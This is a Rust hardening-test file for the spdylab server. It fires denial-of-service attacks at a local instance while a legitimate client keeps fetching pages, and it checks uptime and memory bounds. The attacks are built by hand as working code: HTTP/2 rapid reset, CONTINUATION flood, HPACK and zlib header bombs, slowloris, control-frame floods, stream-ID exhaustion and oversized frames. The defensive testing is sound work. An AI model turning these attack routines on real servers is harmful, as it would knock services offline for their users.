//! The built-in server against hostile peers: each attack runs on
//! `spdylab serve` (hand-built HTTP/2 and SPDY/3.1 frames over raw TCP or
//! TLS) while a legitimate client (curl over h2 and h2c, or spdylab's own
//! SPDY client) keeps fetching the site's front page. Each checks that the
//! server stays up, that its peak RSS (VmHWM) stays under `RSS_BOUND_KIB`,
//! and that every legitimate request succeeded; it prints one line of the
//! table in docs/hardening.md. They run one after another in one test,
//! `every_attack_one_after_another`, and `hostile_h3`'s in another, beside it
//! (`cargo test --release --workspace --test cli -- hostile::every_attack
//! --nocapture` runs both). Bounds are on counts and bytes, never on time.

use crate::common;

use crate::common::TempDir;
use proto::h2::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE,
};
use proto::h2::hpack_int;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use testkit::{h2, spdy};

/// The server's peak resident set must stay below this (KiB).
pub(crate) const RSS_BOUND_KIB: u64 = 512 * 1024;
/// The legitimate client makes at least this many requests per attack.
pub(crate) const LEGIT_MIN: usize = 5;
pub(crate) const HOST: &str = "icons.spdylab.test";

/// One TCP siege at a time: its figures (and `SEEN`) are the attack's own;
/// `hostile_h3` has its own (`SERIAL_QUIC`), so at most one siege of each
/// family shares the machine's two cores.
pub(crate) static SERIAL: Mutex<()> = Mutex::new(());

/// A server under test, its CA written where the clients can trust it.
pub(crate) struct Lab {
    pub(crate) served: common::Served,
    pub(crate) ca: PathBuf,
    _dir: TempDir,
}

impl Lab {
    fn start() -> Lab {
        Lab::start_with("icons", &[])
    }
    /// A server of `site` (built-in or a file; its page on HOST) with
    /// `extra` arguments (`--proto …`).
    pub(crate) fn start_with(site: &str, extra: &[&str]) -> Lab {
        let dir = TempDir::new("hostile");
        let ca = dir.join("ca.pem");
        let ca_arg = ca.display().to_string();
        let mut args = vec!["--site", site, "--ca", ca_arg.as_str()];
        args.extend_from_slice(extra);
        let served = common::serve(&args);
        Lab {
            served,
            ca,
            _dir: dir,
        }
    }
    fn http(&self) -> SocketAddr {
        self.served.http.unwrap()
    }
    pub(crate) fn https(&self) -> SocketAddr {
        self.served.https.unwrap()
    }
    pub(crate) fn status_field(&self, field: &str) -> Option<String> {
        let s = std::fs::read_to_string(format!("/proc/{}/status", self.served.pid())).ok()?;
        s.lines()
            .find(|l| l.starts_with(field))
            .map(|l| l[field.len()..].trim().to_string())
    }
    /// Peak resident set so far, KiB.
    pub(crate) fn peak_rss_kib(&self) -> u64 {
        let v = self.status_field("VmHWM:").expect("the server is running");
        v.trim_end_matches("kB").trim().parse().unwrap()
    }
    /// Running (not exited, not a zombie).
    pub(crate) fn alive(&self) -> bool {
        self.status_field("State:")
            .is_some_and(|s| !s.starts_with('Z') && !s.starts_with('X'))
    }
    fn tls_config(&self, alpn: &[u8]) -> Arc<rustls::ClientConfig> {
        use rustls::pki_types::pem::PemObject;
        let ca = rustls::pki_types::CertificateDer::from_pem_file(&self.ca).unwrap();
        let mut c = (*client::conn::client_tls(proto::Protocol::H2, ca, None)).clone();
        c.alpn_protocols = vec![alpn.to_vec()];
        Arc::new(c)
    }
    /// A TLS connection that negotiated `alpn`.
    fn tls(&self, alpn: &[u8]) -> std::io::Result<Tls> {
        let name = rustls::pki_types::ServerName::try_from(HOST).unwrap();
        let conn = rustls::ClientConnection::new(self.tls_config(alpn), name)
            .map_err(std::io::Error::other)?;
        let tcp = TcpStream::connect(self.https())?;
        tcp.set_write_timeout(Some(Duration::from_secs(20)))?;
        tcp.set_read_timeout(Some(Duration::from_secs(20)))?;
        let mut s = rustls::StreamOwned::new(conn, tcp);
        while s.conn.is_handshaking() {
            s.conn.complete_io(&mut s.sock)?;
        }
        assert_eq!(s.conn.alpn_protocol(), Some(alpn));
        Ok(s)
    }
}

type Tls = rustls::StreamOwned<rustls::ClientConnection, TcpStream>;

/// What the legitimate client saw.
#[derive(Default)]
pub(crate) struct Legit {
    pub(crate) ok: usize,
    pub(crate) failed: Vec<String>,
    pub(crate) ms: Vec<f64>,
}

impl Legit {
    pub(crate) fn p99(&self) -> f64 {
        let mut v = self.ms.clone();
        v.sort_by(|a, b| a.total_cmp(b));
        v.get((v.len() * 99).div_ceil(100).saturating_sub(1))
            .copied()
            .unwrap_or(0.0)
    }
}

/// Which client fetches alongside the attack.
#[derive(Clone, Copy)]
enum Client {
    /// curl, alternately over h2 (TLS) and h2c (prior knowledge).
    Curl,
    /// spdylab's SPDY/3.1 client.
    Spdy,
}

fn one_request(lab: &Lab, client: Client, i: usize) -> Result<(), String> {
    match client {
        Client::Curl => {
            let tls = i.is_multiple_of(2);
            let (url, flag) = if tls {
                (format!("https://{HOST}:{}/", lab.https().port()), "--http2")
            } else {
                (
                    format!("http://{HOST}:{}/", lab.http().port()),
                    "--http2-prior-knowledge",
                )
            };
            let port = if tls {
                lab.https().port()
            } else {
                lab.http().port()
            };
            let out = Command::new("curl")
                .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", flag])
                .arg("--cacert")
                .arg(&lab.ca)
                .arg("--connect-to")
                .arg(format!("::127.0.0.1:{port}"))
                .arg(url)
                .output()
                .map_err(|e| e.to_string())?;
            let code = String::from_utf8_lossy(&out.stdout);
            if out.status.success() && code == "200" {
                Ok(())
            } else {
                Err(format!(
                    "curl {flag}: {code} {}",
                    String::from_utf8_lossy(&out.stderr)
                ))
            }
        }
        Client::Spdy => {
            use rustls::pki_types::pem::PemObject;
            let ca = rustls::pki_types::CertificateDer::from_pem_file(&lab.ca).unwrap();
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            let got = rt.block_on(client::fetch_spdy3(
                lab.https(),
                HOST,
                &["/".to_string()],
                ca,
                65_536,
            ));
            match got {
                Ok(f) if f.len() == 1 && f[0].status == 200 => Ok(()),
                Ok(f) => Err(format!("{} responses", f.len())),
                Err(e) => Err(format!("{e:?}")),
            }
        }
    }
}

/// What attacks achieved and what the server answered, counted by outcome
/// (in the order first seen).
#[derive(Default, Clone)]
pub(crate) struct Tally(pub(crate) Vec<(String, u64)>);

impl Tally {
    pub(crate) fn add(&mut self, what: impl Into<String>, n: u64) {
        let what = what.into();
        match self.0.iter_mut().find(|(w, _)| *w == what) {
            Some((_, m)) => *m += n,
            None => self.0.push((what, n)),
        }
    }
    pub(crate) fn merge(&mut self, other: Tally) {
        for (w, n) in other.0 {
            self.add(w, n);
        }
    }
    pub(crate) fn words(&self) -> String {
        let v: Vec<String> = self.0.iter().map(|(w, n)| format!("{w}: {n}")).collect();
        v.join("; ")
    }
}

/// What the servers sent on the h2 connections of the attack under way
/// (their readers count it here; one siege at a time).
static SEEN: Mutex<Tally> = Mutex::new(Tally(Vec::new()));

fn seen(what: impl Into<String>) {
    SEEN.lock().unwrap_or_else(|e| e.into_inner()).add(what, 1);
}

/// Runs `attack` against a fresh server, round after round until the
/// legitimate client (fetching the front page all along) has made at least
/// `LEGIT_MIN` requests; then checks that the server is up and bounded and
/// that every legitimate request succeeded, and prints the table row.
fn siege(name: &str, params: &str, client: Client, mut attack: impl FnMut(&Lab) -> Tally) {
    let _one = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let lab = Lab::start();
    one_request(&lab, client, 0).expect("the server serves before the attack");
    let before = lab.peak_rss_kib();
    *SEEN.lock().unwrap_or_else(|e| e.into_inner()) = Tally::default();
    let attack_over = AtomicBool::new(false);
    let legit_min_done = AtomicBool::new(false);
    let (outcome, rounds, legit) = std::thread::scope(|s| {
        let legit = s.spawn(|| {
            let mut l = Legit::default();
            let mut i = 0;
            while !attack_over.load(Ordering::SeqCst) || i < LEGIT_MIN {
                let t0 = Instant::now();
                match one_request(&lab, client, i) {
                    Ok(()) => {
                        l.ok += 1;
                        l.ms.push(t0.elapsed().as_secs_f64() * 1e3);
                    }
                    Err(e) => l.failed.push(e),
                }
                i += 1;
                if i >= LEGIT_MIN {
                    legit_min_done.store(true, Ordering::SeqCst);
                }
                std::thread::sleep(Duration::from_millis(50));
            }
            l
        });
        let mut outcome = Tally::default();
        let mut rounds = 0;
        while rounds == 0 || !legit_min_done.load(Ordering::SeqCst) {
            outcome.merge(attack(&lab));
            rounds += 1;
        }
        attack_over.store(true, Ordering::SeqCst);
        (outcome, rounds, legit.join().unwrap())
    });
    assert!(lab.alive(), "{name}: the server died ({})", outcome.words());
    one_request(&lab, client, 1).expect("the server serves after the attack");
    let peak = lab.peak_rss_kib();
    let total = legit.ok + legit.failed.len();
    let answered = SEEN.lock().unwrap_or_else(|e| e.into_inner()).words();
    println!(
        "| {name} | {params}; {rounds} round(s) | {} | {answered} | {} MiB (idle {} MiB) | {}/{} ({:.0} %) | {:.0} ms |",
        outcome.words(),
        peak / 1024,
        before / 1024,
        legit.ok,
        total,
        100.0 * legit.ok as f64 / total as f64,
        legit.p99()
    );
    assert!(
        legit.failed.is_empty(),
        "{name}: {} of {total} legitimate requests failed: {:?}",
        legit.failed.len(),
        &legit.failed[..legit.failed.len().min(5)]
    );
    assert!(
        peak < RSS_BOUND_KIB,
        "{name}: peak RSS {peak} KiB over {RSS_BOUND_KIB}"
    );
}

// ---- HTTP/2 frames, by hand (testkit's writer, proto's wire constants) ----

/// A literal header with a new name; `index` adds it to the dynamic table.
fn hpack_literal(out: &mut Vec<u8>, index: bool, name: &[u8], value: &[u8]) {
    out.push(if index { 0x40 } else { 0x00 });
    hpack_int(out, 0, 7, name.len());
    out.extend_from_slice(name);
    hpack_int(out, 0, 7, value.len());
    out.extend_from_slice(value);
}

/// `GET /` for HOST over http (h2c) from the static table, plus :authority.
fn get_block(method_post: bool) -> Vec<u8> {
    let mut b = vec![if method_post { 0x83 } else { 0x82 }, 0x86, 0x84, 0x01];
    hpack_int(&mut b, 0, 7, HOST.len());
    b.extend_from_slice(HOST.as_bytes());
    b
}

/// An h2c connection past its preface and (empty) SETTINGS. With `drain`, a
/// thread reads what the server sends (so that the server never waits on us)
/// and counts its GOAWAYs and resets in `SEEN`; without, nobody reads. On
/// drop, our side is shut for writing and the reader waits for the server's
/// close (20 s at most).
struct H2c {
    s: TcpStream,
    reader: Option<std::thread::JoinHandle<()>>,
}

impl Write for H2c {
    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
        self.s.write(b)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        self.s.flush()
    }
}

impl Drop for H2c {
    fn drop(&mut self) {
        let _ = self.s.shutdown(std::net::Shutdown::Write);
        if let Some(r) = self.reader.take() {
            let _ = r.join();
        }
    }
}

/// HTTP/2 error codes (RFC 9113 §7) by name.
fn h2_error(code: u32) -> String {
    let names = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    names
        .get(code as usize)
        .map_or(format!("error {code}"), |n| n.to_string())
}

/// Reads h2 frames until EOF, counting in `SEEN` the server's GOAWAYs (by
/// code), RST_STREAMs and response HEADERS.
fn count_frames(mut r: TcpStream) {
    r.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut buf = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    while let Ok(n @ 1..) = r.read(&mut chunk) {
        buf.extend_from_slice(&chunk[..n]);
        let (frames, used) = h2::split(&buf);
        for f in frames {
            let code = |o: usize| {
                f.payload
                    .get(o..o + 4)
                    .map_or(0, |c| u32::from_be_bytes(c.try_into().unwrap()))
            };
            match f.kind {
                GOAWAY => seen(format!("server GOAWAY {}", h2_error(code(4)))),
                RST_STREAM => seen(format!("server RST_STREAM {}", h2_error(code(0)))),
                HEADERS => seen("server response HEADERS"),
                _ => {}
            }
        }
        buf.drain(..used);
    }
}

fn h2c(lab: &Lab, drain: bool) -> std::io::Result<H2c> {
    let mut s = TcpStream::connect(lab.http())?;
    s.set_write_timeout(Some(Duration::from_secs(20)))?;
    s.write_all(&h2::client_hello())?;
    let reader = if drain {
        let r = s.try_clone()?;
        Some(std::thread::spawn(move || count_frames(r)))
    } else {
        None
    };
    Ok(H2c { s, reader })
}

/// How a connection that we flood ended.
#[derive(Default)]
struct Flood {
    /// Bytes the server took before it stopped us.
    bytes: u64,
    /// "closed by the server" (our write failed), "stalled: the server stopped
    /// reading" (our write timed out: backpressure), or "ran to our budget".
    end: &'static str,
}

impl Flood {
    /// Counted in `t` under `what`.
    fn tally(&self, t: &mut Tally, what: &str) {
        t.add(format!("{what} {}", self.end), 1);
        t.add(format!("{what} MiB sent"), self.bytes >> 20);
    }
}

/// Writes the chunks of `next` on `s` until it returns None (our budget),
/// the server closes the connection, or the server stops reading.
fn flood(s: &mut impl Write, mut next: impl FnMut() -> Option<Vec<u8>>) -> Flood {
    let mut f = Flood::default();
    while let Some(chunk) = next() {
        match s.write_all(&chunk) {
            Ok(()) => f.bytes += chunk.len() as u64,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                f.end = "stalled (server stopped reading)";
                return f;
            }
            Err(_) => {
                f.end = "closed by server";
                return f;
            }
        }
    }
    f.end = if s.flush().is_err() {
        "closed by server"
    } else {
        "ran to our budget"
    };
    f
}

/// Writes `chunk` `times` times (see `flood`).
fn repeat(s: &mut impl Write, chunk: &[u8], times: u64) -> Flood {
    let mut n = 0;
    flood(s, || {
        n += 1;
        (n <= times).then(|| chunk.to_vec())
    })
}

// ---- the attacks ----

/// CVE-2023-44487: HEADERS then RST_STREAM at once, stream after stream, on
/// a few connections in parallel (a new one when the server closes one).
fn http2_rapid_reset() {
    const THREADS: usize = 4;
    const STREAMS_PER_THREAD: u64 = 100_000;
    siege(
        "HTTP/2 rapid reset (h2c)",
        &format!("{THREADS} threads × {STREAMS_PER_THREAD} HEADERS+RST_STREAM, 100 pairs a write"),
        Client::Curl,
        |lab| {
            let tally = Mutex::new(Tally::default());
            std::thread::scope(|s| {
                for _ in 0..THREADS {
                    s.spawn(|| {
                        let block = get_block(false);
                        let mut sent = 0u64;
                        let mut t = Tally::default();
                        while sent < STREAMS_PER_THREAD {
                            let Ok(mut c) = h2c(lab, true) else {
                                continue;
                            };
                            let mut id = 1u32;
                            let f = flood(&mut c, || {
                                if sent >= STREAMS_PER_THREAD || id > 0x7fff_0000 {
                                    return None;
                                }
                                let mut out = Vec::new();
                                for _ in 0..100 {
                                    h2::write(
                                        &mut out,
                                        HEADERS,
                                        END_HEADERS | END_STREAM,
                                        id,
                                        &block,
                                    );
                                    h2::write(&mut out, RST_STREAM, 0, id, &8u32.to_be_bytes());
                                    id += 2;
                                }
                                sent += 100;
                                Some(out)
                            });
                            t.add(format!("conns {}", f.end), 1);
                        }
                        t.add("streams opened and reset", sent);
                        tally.lock().unwrap().merge(t);
                    });
                }
            });
            tally.into_inner().unwrap()
        },
    );
}

/// CVE-2024-27316 style: HEADERS without END_HEADERS, then CONTINUATION
/// frames that never end — full ones (16 KiB of literal headers each) and,
/// on another connection, empty ones.
fn http2_endless_continuation() {
    const FULL: u64 = 2048; // frames of 16 KiB: 32 MiB
    const EMPTY: u64 = 200; // writes of 1 000 empty frames
    siege(
        "HTTP/2 endless CONTINUATION (h2c)",
        "1 conn × 32 MiB of 16 KiB CONTINUATIONs, 1 conn × 200 000 empty ones",
        Client::Curl,
        |lab| {
            let mut full = Vec::new();
            hpack_literal(&mut full, false, b"x-c", &[b'c'; 16376]);
            assert_eq!(full.len(), 16384);
            let mut cont = Vec::new();
            h2::write(&mut cont, CONTINUATION, 0, 1, &full);
            let mut empty = Vec::new();
            for _ in 0..1000 {
                h2::write(&mut empty, CONTINUATION, 0, 1, &[]);
            }
            let mut t = Tally::default();
            for (what, chunk, times) in [("16 KiB", &cont, FULL), ("empty", &empty, EMPTY)] {
                let mut c = h2c(lab, true).unwrap();
                let mut head = Vec::new();
                h2::write(&mut head, HEADERS, END_STREAM, 1, &get_block(false));
                c.write_all(&head).unwrap();
                repeat(&mut c, chunk, times).tally(&mut t, what);
            }
            t
        },
    );
}

/// HPACK bomb: one 4 000-byte header put in the dynamic table, then header
/// blocks that name it by index 16 000 times (1 byte each: 64 MB of headers
/// from 16 KB), stream after stream.
fn hpack_bomb() {
    const STREAMS: u64 = 200;
    siege(
        "HPACK bomb (h2c)",
        &format!("1 conn × {STREAMS} streams × 16 000 refs to a 4 000-byte entry (64 MB a block)"),
        Client::Curl,
        |lab| {
            let mut t = Tally::default();
            let mut c = h2c(lab, true).unwrap();
            let mut first = get_block(false);
            hpack_literal(&mut first, true, b"x-b", &[b'b'; 4000]);
            first.extend(std::iter::repeat_n(0xbe, 3000));
            let mut head = Vec::new();
            h2::write(&mut head, HEADERS, END_HEADERS | END_STREAM, 1, &first);
            let mut id = 3u32;
            let mut n = 0;
            flood(&mut c, || {
                n += 1;
                if n == 1 {
                    return Some(head.clone());
                }
                if n > STREAMS {
                    return None;
                }
                let mut block = get_block(false);
                block.extend(std::iter::repeat_n(0xbe, 16000));
                let mut out = Vec::new();
                h2::write(&mut out, HEADERS, END_HEADERS | END_STREAM, id, &block);
                id += 2;
                Some(out)
            })
            .tally(&mut t, "conn");
            drop(c);
            t.add("bomb streams sent", n.min(STREAMS));
            t
        },
    );
}

/// Counts what a SPDY server sent: GOAWAYs, RST_STREAMs, SYN_REPLYs.
fn spdy_tally(t: &mut Tally, frames: &[proto::spdy3::Frame]) {
    use proto::spdy3::Frame;
    for f in frames {
        match f {
            Frame::GoAway { status, .. } => t.add(format!("server GOAWAY status {status}"), 1),
            Frame::RstStream { status, .. } => {
                t.add(format!("server RST_STREAM status {status}"), 1)
            }
            Frame::SynReply { .. } => t.add("server SYN_REPLY", 1),
            _ => {}
        }
    }
}

fn spdy_get(stream_id: u32, extra: &[(&str, String)]) -> proto::spdy3::Frame {
    let mut headers: proto::spdy3::Headers = [
        (":method", "GET"),
        (":path", "/"),
        (":version", "HTTP/1.1"),
        (":host", HOST),
        (":scheme", "https"),
    ]
    .iter()
    .map(|(n, v)| (n.to_string(), v.to_string()))
    .collect();
    headers.extend(extra.iter().map(|(n, v)| (n.to_string(), v.clone())));
    proto::spdy3::Frame::SynStream {
        stream_id,
        associated_to: 0,
        priority: 0,
        fin: true,
        unidirectional: false,
        headers,
    }
}

/// SPDY zlib bomb: a SYN_STREAM whose header block is a few KiB of deflate
/// that inflates to 8 MiB, on connection after connection.
fn spdy_zlib_bomb() {
    const CONNS: usize = 50;
    let mut bomb = Vec::new();
    proto::spdy3::Encoder::default()
        .encode(&spdy_get(1, &[("x-bomb", "a".repeat(8 << 20))]), &mut bomb);
    siege(
        "SPDY/3.1 zlib header bomb",
        &format!(
            "{CONNS} TLS conns × 1 SYN_STREAM of {} KiB inflating to 8 MiB",
            bomb.len() / 1024
        ),
        Client::Spdy,
        |lab| {
            let mut t = Tally::default();
            for _ in 0..CONNS {
                let mut c = lab.tls(proto::spdy3::ALPN).unwrap();
                if c.write_all(&bomb).and_then(|_| c.flush()).is_err() {
                    t.add("conns closed before the bomb was written", 1);
                    continue;
                }
                t.add("bombs sent", 1);
                spdy_tally(&mut t, &spdy::read_until_close(&mut c));
            }
            t
        },
    );
}

/// Slowloris: `n` HTTP/1.1 connections that send a request line and then one
/// header line a second, never ending the headers.
fn slowloris(n: usize, rounds: u32) {
    siege(
        "slowloris (HTTP/1.1)",
        &format!("{n} conns, one header line a second for {rounds} s"),
        Client::Curl,
        |lab| {
            let mut conns: Vec<Option<TcpStream>> = (0..n)
                .map(|_| {
                    let mut c = TcpStream::connect(lab.http()).ok()?;
                    c.set_nonblocking(true).ok()?;
                    c.write_all(format!("GET / HTTP/1.1\r\nHost: {HOST}\r\n").as_bytes())
                        .ok()?;
                    Some(c)
                })
                .collect();
            let mut t = Tally::default();
            t.add("conns opened", conns.iter().flatten().count() as u64);
            for _ in 0..rounds {
                std::thread::sleep(Duration::from_secs(1));
                for c in conns.iter_mut() {
                    if let Some(s) = c {
                        let mut b = [0u8; 512];
                        let closed =
                            matches!(s.read(&mut b), Ok(0)) || s.write_all(b"X-a: b\r\n").is_err();
                        if closed {
                            *c = None;
                            t.add("closed by the server", 1);
                        }
                    }
                }
            }
            t.add(
                "still open at the end",
                conns.iter().flatten().count() as u64,
            );
            t
        },
    );
}

fn slowloris_1000() {
    slowloris(1000, 14);
}

/// TCP connections to the TLS port that never send a ClientHello.
fn idle_tls(n: usize) {
    siege(
        "idle TLS handshakes",
        &format!("{n} TCP conns to the TLS port, silent for 13 s"),
        Client::Curl,
        |lab| {
            let conns: Vec<TcpStream> = (0..n)
                .filter_map(|_| TcpStream::connect(lab.https()).ok())
                .collect();
            std::thread::sleep(Duration::from_secs(13));
            let closed = conns.iter().filter(|c| peer_closed(c)).count();
            let mut t = Tally::default();
            t.add("conns opened", conns.len() as u64);
            t.add("closed by the server", closed as u64);
            t
        },
    );
}

fn idle_tls_handshakes_2000() {
    idle_tls(2000);
}

/// The full size of the issue: 10 000 (needs `ulimit -n` above 10 100).
#[test]
#[ignore]
fn idle_tls_handshakes_10000() {
    idle_tls(10_000);
}

/// A flood of one control frame on h2c, on two connections: one that reads
/// what the server answers, one that never does.
fn h2_control_flood(name: &str, kind: u8, payload: &[u8]) {
    const FRAMES: u64 = 1_000_000;
    let mut chunk = Vec::new();
    for _ in 0..1000 {
        h2::write(&mut chunk, kind, 0, 0, payload);
    }
    siege(
        name,
        &format!("2 conns (one read, one never read) × {FRAMES} frames"),
        Client::Curl,
        |lab| {
            let mut t = Tally::default();
            for (drain, what) in [(true, "read"), (false, "never read")] {
                let mut c = h2c(lab, drain).unwrap();
                c.s.set_write_timeout(Some(Duration::from_secs(5))).unwrap();
                repeat(&mut c, &chunk, FRAMES / 1000).tally(&mut t, what);
            }
            t
        },
    );
}

fn http2_settings_flood() {
    // SETTINGS_HEADER_TABLE_SIZE 4096: each needs an ACK.
    h2_control_flood(
        "HTTP/2 SETTINGS flood (h2c)",
        SETTINGS,
        &[0, 1, 0, 0, 0x10, 0],
    );
}

fn http2_ping_flood() {
    h2_control_flood("HTTP/2 PING flood (h2c)", PING, &[7; 8]);
}

fn http2_window_update_flood() {
    h2_control_flood(
        "HTTP/2 WINDOW_UPDATE flood (h2c)",
        WINDOW_UPDATE,
        &1u32.to_be_bytes(),
    );
}

/// PING, SETTINGS and WINDOW_UPDATE floods on SPDY/3.1, never reading.
fn spdy_control_floods() {
    use proto::spdy3::Frame;
    const FRAMES: u64 = 1_000_000;
    siege(
        "SPDY/3.1 PING / SETTINGS / WINDOW_UPDATE floods",
        &format!("3 TLS conns (never read) × {FRAMES} frames"),
        Client::Spdy,
        |lab| {
            let floods = [
                ("PING", Frame::Ping { id: 1 }),
                (
                    "SETTINGS",
                    Frame::Settings {
                        clear: false,
                        entries: vec![(0, proto::spdy3::settings::INITIAL_WINDOW_SIZE, 65_536)],
                    },
                ),
                (
                    "WINDOW_UPDATE",
                    Frame::WindowUpdate {
                        stream_id: 0,
                        delta: 1,
                    },
                ),
            ];
            let mut t = Tally::default();
            for (what, one) in floods {
                let mut chunk = Vec::new();
                let mut enc = proto::spdy3::Encoder::default();
                for _ in 0..1000 {
                    enc.encode(&one, &mut chunk);
                }
                let mut c = lab.tls(proto::spdy3::ALPN).unwrap();
                c.sock
                    .set_write_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                repeat(&mut c, &chunk, FRAMES / 1000).tally(&mut t, what);
            }
            t
        },
    );
}

/// Reads one h2 frame; None at EOF or after 20 s.
fn read_h2_frame(s: &mut TcpStream) -> Option<h2::Frame> {
    s.set_read_timeout(Some(Duration::from_secs(20))).ok()?;
    h2::read(s)
}

/// Stream-ID exhaustion: a client that jumps to the last stream id (2^31−1),
/// waits for its response, and then opens one more, on h2c and SPDY/3.1.
fn stream_id_exhaustion() {
    const CONNS: usize = 20;
    siege(
        "stream-ID exhaustion (h2c, SPDY/3.1)",
        &format!("{CONNS} conns each: a request on stream 2^31−1, then one on stream 1"),
        Client::Curl,
        |lab| {
            use proto::spdy3::Frame;
            let mut t = Tally::default();
            for _ in 0..CONNS {
                let mut c = h2c(lab, false).unwrap();
                let mut out = Vec::new();
                h2::write(
                    &mut out,
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    0x7fff_ffff,
                    &get_block(false),
                );
                c.write_all(&out).unwrap();
                while let Some(f) = read_h2_frame(&mut c.s) {
                    if f.kind == HEADERS && f.stream == 0x7fff_ffff {
                        t.add("h2c: stream 2^31−1 answered", 1);
                        break;
                    }
                }
                let mut out = Vec::new();
                h2::write(
                    &mut out,
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    1,
                    &get_block(false),
                );
                let _ = c.write_all(&out);
                while let Some(f) = read_h2_frame(&mut c.s) {
                    if f.kind == GOAWAY {
                        let code = u32::from_be_bytes(f.payload[4..8].try_into().unwrap());
                        t.add(format!("h2c: then GOAWAY {}", h2_error(code)), 1);
                    }
                }

                let mut s = lab.tls(proto::spdy3::ALPN).unwrap();
                let mut enc = proto::spdy3::Encoder::default();
                let mut out = Vec::new();
                enc.encode(&spdy_get(0x7fff_ffff, &[]), &mut out);
                s.write_all(&out).unwrap();
                s.flush().unwrap();
                let answered = |f: &Frame| {
                    matches!(
                        f,
                        Frame::SynReply {
                            stream_id: 0x7fff_ffff,
                            ..
                        }
                    )
                };
                if spdy::read_until(&mut s, answered)
                    .last()
                    .is_some_and(answered)
                {
                    t.add("SPDY: stream 2^31−1 answered", 1);
                }
                let mut out = Vec::new();
                enc.encode(&spdy_get(1, &[]), &mut out);
                let _ = s.write_all(&out).and_then(|_| s.flush());
                let frames = spdy::read_until_close(&mut s);
                let mut then = Tally::default();
                spdy_tally(&mut then, &frames);
                for (w, n) in then.0 {
                    t.add(format!("SPDY: then {w}"), n);
                }
            }
            t
        },
    );
}

/// Oversized frames and bodies: an h2 DATA frame that claims 16 MiB − 1
/// (SETTINGS_MAX_FRAME_SIZE is 16 KiB), an h2 request body far beyond its
/// window, a 1 GiB HTTP/1.1 body, and a SPDY frame over the decoder's limit.
fn oversized_frames_and_bodies() {
    const CHUNKS: u64 = 4096; // × 16 KiB = 64 MiB a connection
    siege(
        "oversized frames and bodies",
        "h2c 16 MiB frame; h2c POST 64 MiB past the window; HTTP/1.1 POST of 1 GiB (64 MiB sent); SPDY 16 MiB frame",
        Client::Curl,
        |lab| {
            let zeros = vec![0u8; 16 * 1024];
            let mut t = Tally::default();
            // An h2 frame header claiming 16 MiB − 1.
            let mut c = h2c(lab, true).unwrap();
            let mut head = Vec::new();
            h2::write(&mut head, HEADERS, END_HEADERS, 1, &get_block(true));
            head.extend_from_slice(&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1]);
            c.write_all(&head).unwrap();
            repeat(&mut c, &zeros, CHUNKS).tally(&mut t, "h2c 16 MiB frame:");
            drop(c);
            // A body beyond the 64 KiB window, in legal-sized frames.
            let mut c = h2c(lab, true).unwrap();
            let mut head = Vec::new();
            h2::write(&mut head, HEADERS, END_HEADERS, 1, &get_block(true));
            c.write_all(&head).unwrap();
            let mut data = Vec::new();
            h2::write(&mut data, DATA, 0, 1, &zeros);
            repeat(&mut c, &data, CHUNKS).tally(&mut t, "h2c body:");
            drop(c);
            // HTTP/1.1: Content-Length 1 GiB.
            let mut c = TcpStream::connect(lab.http()).unwrap();
            c.set_write_timeout(Some(Duration::from_secs(20))).unwrap();
            let req = format!(
                "POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {}\r\n\r\n",
                1u64 << 30
            );
            c.write_all(req.as_bytes()).unwrap();
            let mut r = c.try_clone().unwrap();
            let reader = std::thread::spawn(move || {
                let mut buf = vec![0u8; 64 * 1024];
                while matches!(r.read(&mut buf), Ok(n) if n > 0) {}
            });
            repeat(&mut c, &zeros, CHUNKS).tally(&mut t, "HTTP/1.1 body:");
            let _ = c.shutdown(std::net::Shutdown::Both);
            let _ = reader.join();
            // SPDY: a control frame of 16 MiB − 1 (the decoder's limit is 1 MiB).
            let mut s = lab.tls(proto::spdy3::ALPN).unwrap();
            s.sock.set_write_timeout(Some(Duration::from_secs(5))).unwrap();
            let _ = s.write_all(&spdy::control_head(1, 0, 0xff_ffff));
            repeat(&mut s, &zeros, CHUNKS).tally(&mut t, "SPDY 16 MiB frame:");
            t
        },
    );
}

/// SPDY's rapid reset: SYN_STREAM then RST_STREAM CANCEL, stream after stream.
fn spdy_rapid_reset() {
    const STREAMS: u32 = 100_000;
    siege(
        "SPDY/3.1 rapid reset",
        &format!("1 TLS conn × {STREAMS} SYN_STREAM+RST_STREAM, 100 pairs a write"),
        Client::Spdy,
        |lab| {
            use proto::spdy3::Frame;
            let mut t = Tally::default();
            let mut c = lab.tls(proto::spdy3::ALPN).unwrap();
            let mut enc = proto::spdy3::Encoder::default();
            let mut id = 1u32;
            flood(&mut c, || {
                if id > 2 * STREAMS {
                    return None;
                }
                let mut out = Vec::new();
                for _ in 0..100 {
                    enc.encode(&spdy_get(id, &[]), &mut out);
                    enc.encode(
                        &Frame::RstStream {
                            stream_id: id,
                            status: proto::spdy3::rst::CANCEL,
                        },
                        &mut out,
                    );
                    id += 2;
                }
                Some(out)
            })
            .tally(&mut t, "conn");
            t.add("streams opened and reset", (id / 2) as u64);
            t
        },
    );
}

/// Whether the peer closed `s` (EOF or an error), reading what it sent.
